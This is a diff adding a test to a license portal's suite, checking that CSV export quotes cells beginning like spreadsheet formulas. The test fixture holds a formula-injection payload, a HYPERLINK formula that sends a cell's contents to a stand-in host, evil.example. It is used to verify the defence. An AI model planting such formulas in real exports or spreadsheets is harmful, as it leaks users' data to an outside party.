@@ -171,3 +171,18 @@ async def test_zip_and_single_license_files(
     assert outside.status_code == 404
     unknown = await client.http.get(f"/api/licenses/{gid('License', uuid.uuid4())}/license.lic")
     assert unknown.status_code == 404
+
+
+async def test_csv_export_quotes_cells_a_spreadsheet_would_run(client: GraphQLClient, portal: Portal) -> None:
+    # given a custom value and a custom field name that start like formulas
+    account = account_id(await sign_in(client))
+    made = await make_license(portal, plain(account, "Account"), "EPS-14")
+    note = await create_field(client, account, "@Note", "TEXT")
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    await set_values(client, [made.global_id], [{"fieldId": note["id"], "value": formula}])
+    # when the list is exported
+    rows = read_csv(await client.http.get("/api/licenses/export.csv", params={"accountId": account}))
+    # then both open as text, quoted once
+    assert list(rows[0])[-1] == "'@Note"
+    assert rows[0]["'@Note"] == "'" + formula
+    assert rows[0]["Product SKU"] == "EPS-14"
